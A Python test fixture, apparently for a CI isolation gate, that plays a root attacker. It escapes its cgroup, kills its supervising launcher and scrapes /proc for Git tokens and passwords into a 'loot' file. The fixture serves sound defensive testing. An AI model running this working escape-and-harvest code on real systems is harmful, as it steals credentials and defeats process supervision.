"""A hostile task's survivor, as a same-user (here: root) attacker writes it: started from a
task's command, it double-forks, ``setsid``s, clears its environment (``env -i``), moves itself
to the root cgroup when it can write it, kills its launcher and then watches every process
below the gate for the token: ``/proc/<pid>/environ`` and ``cmdline`` of each, and the pipes
and files ``/proc/<pid>/fd`` shows of every git process (it reads what it can open).

``python3 survivor.py DIR`` returns at once (the task goes on); the survivor writes into DIR:
``pid`` (its own), ``escaped`` (once it killed its launcher), ``loot`` (every read that held
something token-like), ``seen`` (each git process it saw push or fetch). It stops by itself
after two minutes."""

from __future__ import annotations

import contextlib
import os
import stat
import sys
import time

NEEDLES = (b"ghs_", b"eC1hY2Nlc3MtdG9rZW46", b"password=", b"AUTHORIZATION")  # base64 of
# "x-access-token:" is the Authorization header's start


def _stat(pid: int) -> list[bytes]:
    with open(f"/proc/{pid}/stat", "rb") as fh:
        data = fh.read()
    return data[data.rindex(b")") + 2:].split()


def _read(path: str, nonblock: bool = False) -> bytes:
    try:
        fd = os.open(path, os.O_RDONLY | (os.O_NONBLOCK if nonblock else 0))
    except OSError:
        return b""
    try:
        return os.read(fd, 65536)
    except OSError:
        return b""
    finally:
        os.close(fd)


def _launcher_and_gate() -> tuple[int, int]:
    """The run's launcher (``_reaper.py``, our subreaper now) and the gate's pid, its argument."""
    pid = os.getppid()
    for _ in range(32):
        argv = _read(f"/proc/{pid}/cmdline").split(b"\0")
        at = [i for i, a in enumerate(argv) if a.endswith(b"_reaper.py")]
        if at:
            rest = argv[at[0] + 1:]
            if rest[:1] == [b"--cgroup"]:
                rest = rest[2:]
            return pid, int(rest[0])
        pid = int(_stat(pid)[1])
    raise SystemExit("no launcher above")


def _leave_cgroup() -> None:
    """Into the root of the cgroup v2 hierarchy, out of the run's cgroup (root may)."""
    for line in _read("/proc/self/mountinfo").decode().splitlines():
        if " - cgroup2 " in line:
            with contextlib.suppress(OSError), \
                    open(os.path.join(line.split()[4], "cgroup.procs"), "w") as fh:
                fh.write(str(os.getpid()))
            return


def _below(gate: int) -> list[int]:
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError, ValueError, IndexError):
                parents[int(entry)] = int(_stat(int(entry))[1])
    found = []
    for pid in parents:
        up, hops = parents.get(pid), 0
        while up and up != gate and hops < 64:
            up, hops = parents.get(up), hops + 1
        if up == gate and pid != os.getpid():
            found.append(pid)
    return found


def _scan(gate: int, out: str) -> None:
    for pid in _below(gate):
        cmdline = _read(f"/proc/{pid}/cmdline")
        blobs = [("environ", _read(f"/proc/{pid}/environ")), ("cmdline", cmdline)]
        if cmdline.startswith(b"git"):
            if b"push" in cmdline or b"fetch" in cmdline or b"remote-http" in cmdline:
                with open(os.path.join(out, "seen"), "ab") as fh:
                    fh.write(cmdline.replace(b"\0", b" ") + b"\n")
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                fds = []
            for fd in fds:
                path = f"/proc/{pid}/fd/{fd}"
                try:
                    mode = os.stat(path).st_mode
                except OSError:
                    continue
                if stat.S_ISFIFO(mode) or stat.S_ISREG(mode):
                    blobs.append((f"fd {fd}", _read(path, nonblock=True)))
        for what, data in blobs:
            if any(n in data for n in NEEDLES):
                with open(os.path.join(out, "loot"), "ab") as fh:
                    fh.write(f"{pid} {what}: ".encode() + data + b"\n")


def survive(out: str) -> None:
    with open(os.path.join(out, "pid"), "w") as fh:
        fh.write(str(os.getpid()))
    launcher, gate = _launcher_and_gate()
    _leave_cgroup()
    os.kill(launcher, 9)
    with open(os.path.join(out, "escaped"), "w") as fh:
        fh.write(f"launcher {launcher} killed; gate {gate}\n")
    end = time.monotonic() + 120
    while time.monotonic() < end:
        _scan(gate, out)
        time.sleep(0.01)


def main(argv: list[str]) -> None:
    if argv[:1] == ["--survive"]:
        survive(argv[1])
        return
    if os.fork():
        return  # the task goes on
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in (0, 1, 2):  # nothing tying it to the command's pipes
        null = os.open(os.devnull, os.O_RDWR)
        os.dup2(null, fd)
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), "--survive", argv[0]],
              {})  # env -i


if __name__ == "__main__":
    main(sys.argv[1:])
